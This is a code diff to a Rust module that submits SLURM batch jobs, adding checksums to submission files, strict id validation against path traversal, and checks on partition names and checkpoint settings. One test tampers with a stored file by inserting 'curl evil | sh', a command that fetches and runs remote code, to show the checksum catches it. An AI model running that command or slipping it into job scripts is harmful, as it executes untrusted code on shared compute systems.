@@ -14,6 +14,7 @@ use serde::{Deserialize, Serialize};
 use super::plan::PlannedRun;
 use super::store::{Standing, Store};
 use crate::error::{Error, Result};
+use crate::hash::sha256;
 use crate::train::cohort::{cohorts, stacks};
 use crate::train::{RunSpec, Status};
 
@@ -52,16 +53,35 @@ pub const SLURM_OPTIONS: [(&str, &str); 8] = [
     ("cpus", "cores of one task; default: the threads of a run's frozen plan, 1 with a GPU"),
     ("mem", "memory of one task, \"8G\"; default: the site's"),
     ("array_limit", "tasks that run at the same time, at most; default: the site's"),
-    ("setup", "shell lines before the program starts, such as \"module load cuda\""),
+    (
+        "setup",
+        "shell lines before the program starts, such as \"module load cuda\"; needs kelvin --allow-shell",
+    ),
     ("runs_per_task", "runs of one task; default: as many as its cores train at once"),
 ];
 
 /// `DIR/submissions/ID.json`.
 #[derive(Serialize, Deserialize)]
 struct Submission {
+    /// SHA-256 of the rest: whether somebody changed the file. Earlier versions wrote none.
+    #[serde(default)]
+    sha256: Option<String>,
     options: Slurm,
     /// The runs of each task.
     tasks: Vec<Vec<String>>,
+}
+
+impl Submission {
+    fn new(options: Slurm, tasks: Vec<Vec<String>>) -> Result<Self> {
+        let mut submission = Self { sha256: None, options, tasks };
+        submission.sha256 = Some(submission.digest()?);
+        Ok(submission)
+    }
+
+    fn digest(&self) -> Result<String> {
+        let content = serde_json::to_vec(&(&self.options, &self.tasks));
+        Ok(sha256(content.map_err(|error| Error::invalid(error.to_string()))?))
+    }
 }
 
 /// What was sent.
@@ -115,18 +135,48 @@ fn folder(dir: &Path) -> PathBuf {
 
 /// The options of a sweep's last submission, if it has any.
 pub fn last_options(store: &Store) -> Result<Option<Slurm>> {
-    let mut names = store.files.names(&folder(store.dir()))?;
-    names.retain(|name| name.ends_with(".json"));
-    names.sort();
-    let Some(name) = names.last() else { return Ok(None) };
-    Ok(Some(read(store, name.trim_end_matches(".json"))?.options))
+    let names = store.files.names(&folder(store.dir()))?;
+    let last = names.iter().filter_map(|name| name.strip_suffix(".json")).filter(|id| is_id(id)).max();
+    last.map(|id| Ok(read(store, id)?.options)).transpose()
+}
+
+/// A submission's id: its time, `t20261123T143005`, and `x` with four hex digits, by which two of one second differ.
+fn new_id() -> String {
+    let now = chrono::Utc::now().format("t%Y%m%dT%H%M%S");
+    format!("{now}x{}", &uuid::Uuid::new_v4().simple().to_string()[..4])
+}
+
+/// Whether a text is one that [`new_id`] makes. Ids name files, and come from queues and command lines.
+fn is_id(text: &str) -> bool {
+    const FORM: &[u8] = b"t00000000T000000xffff";
+    let fits = |(found, form): (u8, &u8)| match form {
+        b'0' => found.is_ascii_digit(),
+        b'f' => matches!(found, b'0'..=b'9' | b'a'..=b'f'),
+        form => found == *form,
+    };
+    text.len() == FORM.len() && text.bytes().zip(FORM).all(fits)
 }
 
 fn read(store: &Store, id: &str) -> Result<Submission> {
+    if !is_id(id) {
+        return Err(Error::invalid(format!(
+            "{id:?}: expected the id of a submission, as its script writes it"
+        )));
+    }
     let path = folder(store.dir()).join(format!("{id}.json"));
     let bytes = store.files.read(&path)?;
-    serde_json::from_slice(&bytes)
-        .map_err(|error| Error::invalid(format!("{}: not a submission: {error}", path.display())))
+    let refused = |what: &dyn std::fmt::Display| {
+        Error::invalid(format!(
+            "{}: not a submission: {what}; `kelvin submit` makes a new one",
+            path.display()
+        ))
+    };
+    let submission: Submission = serde_json::from_slice(&bytes).map_err(|error| refused(&error))?;
+    if submission.sha256.as_ref().is_some_and(|sha256| submission.digest().ok().as_ref() != Some(sha256)) {
+        return Err(refused(&"it was changed after it was written"));
+    }
+    check_values(&submission.options).map_err(|error| refused(&error))?;
+    Ok(submission)
 }
 
 /// Whether a task is one of a submission, and not a share of the plan.
@@ -182,6 +232,11 @@ pub fn task(store: &Store, task: &str) -> Result<Vec<PlannedRun>> {
 
 /// Whether these options can be sent from this host.
 pub fn check(options: &Slurm) -> Result<()> {
+    check_values(options)?;
+    largest_array().map(|_| ())
+}
+
+fn check_values(options: &Slurm) -> Result<()> {
     if let Some(gpus) = options.gpus.filter(|&gpus| gpus > 1) {
         return Err(Error::invalid(format!(
             "gpus is {gpus}, expected 0 or 1: a task uses one GPU, several tasks use several"
@@ -209,7 +264,21 @@ pub fn check(options: &Slurm) -> Result<()> {
             "mem: expected a size such as \"8G\" or \"500M\", found \"{mem}\""
         )));
     }
-    largest_array().map(|_| ())
+    let name = |text: &str| {
+        let known = |b: u8| b.is_ascii_alphanumeric() || b"_-.,+".contains(&b);
+        text.bytes().next().is_some_and(|first| first.is_ascii_alphanumeric()) && text.bytes().all(known)
+    };
+    if let Some(partition) = options.partition.as_ref().filter(|partition| !name(partition)) {
+        return Err(Error::invalid(format!(
+            "partition: expected a name such as \"gpu\", or several, \"gpu,long\", found {partition:?}"
+        )));
+    }
+    if let Some(seconds) = options.checkpoint_every
+        && std::time::Duration::try_from_secs_f64(seconds).is_err()
+    {
+        return Err(Error::invalid(format!("checkpoint_every: expected seconds ≥ 0, found {seconds}")));
+    }
+    Ok(())
 }
 
 /// Sends what is missing and not queued yet, and returns at once. Tasks run the program that calls this.
@@ -238,25 +307,24 @@ pub fn submit(store: &Store, options: &Slurm, retry_failed: bool) -> Result<Sent
     }
     let wanted = Slurm { cpus: Some(cores(&missing, options)), ..options.clone() };
     let tasks = tasks(&missing, &wanted);
-    let now = chrono::Utc::now().format("t%Y%m%dT%H%M%S");
-    let id = format!("{now}x{}", &uuid::Uuid::new_v4().simple().to_string()[..4]);
+    let id = new_id();
     // Jobs start in other folders and on other hosts.
     let dir = std::fs::canonicalize(store.dir()).map_err(|error| Error::io(store.dir(), error))?;
-    let folder = folder(&dir);
-    let logs = folder.join(&id);
+    let (own, logs) = (folder(store.dir()), folder(&dir).join(&id));
     store.prepare()?;
-    store.files.create_folders(&logs)?;
-    let script = folder.join(format!("{id}.sh"));
-    let staging = dir.join("staging");
+    store.files.create_folders(&own.join(&id))?;
+    let staging = store.dir().join("staging");
     let sizes: Vec<usize> = tasks.iter().map(Vec::len).collect();
-    let submission = Submission { options: options.clone(), tasks };
+    let submission = Submission::new(options.clone(), tasks)?;
     let text = serde_json::to_string(&submission).map_err(|error| Error::invalid(error.to_string()))?;
+    let name = format!("{id}.sh");
+    let script = folder(&dir).join(&name);
     store.files.publish(
         &staging,
-        &script,
+        &own.join(&name),
         batch_script(options, retry_failed, &kelvin, &dir, &id).as_bytes(),
     )?;
-    store.files.publish(&staging, &folder.join(format!("{id}.json")), text.as_bytes())?;
+    store.files.publish(&staging, &own.join(format!("{id}.json")), text.as_bytes())?;
     for first in (0..sizes.len()).step_by(limit) {
         let chunk = &sizes[first..(first + limit).min(sizes.len())];
         let mut sbatch = Command::new("sbatch");
@@ -516,6 +584,30 @@ mod tests {
         let last = "trap '' USR1\nmodule load cuda\nexec '/opt/kelvin' worker '/data/it'\\''s mine' \
                     t1/$(($1 + SLURM_ARRAY_TASK_ID)) --checkpoint-every 0.5\n";
         assert!(script.ends_with(last), "{script}");
+    }
+
+    #[test]
+    fn ids_of_submissions_name_nothing_else() {
+        assert!(is_id(&new_id()));
+        for other in
+            ["", "t1", "../../x", "t20261123T143005x12G4", "t20261123T143005x1234/", "t20261123T143005x"]
+        {
+            assert!(!is_id(other), "{other}");
+        }
+    }
+
+    #[test]
+    fn a_submission_that_was_changed_has_another_checksum() {
+        let options = Slurm { setup: Some("module load cuda".to_owned()), ..Slurm::default() };
+        let submission = Submission::new(options, vec![vec!["r1".to_owned()]]).unwrap();
+        let text = serde_json::to_string(&submission).unwrap();
+        let read = |text: &str| -> bool {
+            let read: Submission = serde_json::from_str(text).unwrap();
+            read.digest().ok() == read.sha256
+        };
+        assert!(read(&text));
+        assert!(!read(&text.replace("module load cuda", "curl evil | sh")));
+        assert!(!read(&text.replace("\"r1\"", "\"r2\"")));
     }
 
     #[test]
